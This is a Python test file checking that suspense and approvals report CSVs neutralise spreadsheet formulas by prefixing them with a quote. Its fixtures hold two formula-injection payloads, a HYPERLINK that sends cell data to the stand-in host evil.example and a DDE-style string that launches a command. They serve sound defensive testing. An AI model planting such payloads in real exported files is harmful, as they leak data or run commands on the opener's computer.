"""Report CSVs (suspense, approvals and the others) cannot carry a formula into a spreadsheet."""

import csv
import datetime as dt
import io
from decimal import Decimal

from revcore.cashposting import PaymentLine
from revtui.records.payments import SuspenseEntry, open_cash_records
from revtui.reports.cash import suspense_held
from revtui.reports.report import Report
from revtui.store import Store

D = dt.date
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _rows(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_payers_reference_in_the_suspense_report_opens_as_text(tmp_path):
    with Store(tmp_path / "s.db", user="t") as store:
        with store.change("test"):
            open_cash_records(store).suspense.add(SuspenseEntry(
                "k1", "bank-2026-05-01.csv line 2", PaymentLine(2, FORMULA, Decimal("50.00"), D(2026, 5, 1), channel="bank"),
                "reference not valid", D(2026, 5, 1)))
        header, item, total = _rows(suspense_held(store, D(2026, 5, 19)).to_csv())
    assert item[header.index("reference_given")] == "'" + FORMULA
    assert item[header.index("amount")] == "50.00" and total[header.index("amount")] == "50.00"


def test_the_approvals_report_quotes_a_formula_and_keeps_negative_amounts_as_numbers():
    report = Report("approvals", "Refunds and write-offs by approver", D(2026, 5, 19),
                    ("kind", "authorised_by", "requested_by", "count", "amount"),
                    (("refund", "@SUM(1+1)*cmd|' /C calc'!A0", "-a.patel", 1, Decimal("-12.5")),))
    [_, row] = _rows(report.to_csv())
    assert row == ["refund", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-a.patel", "1", "-12.50"]
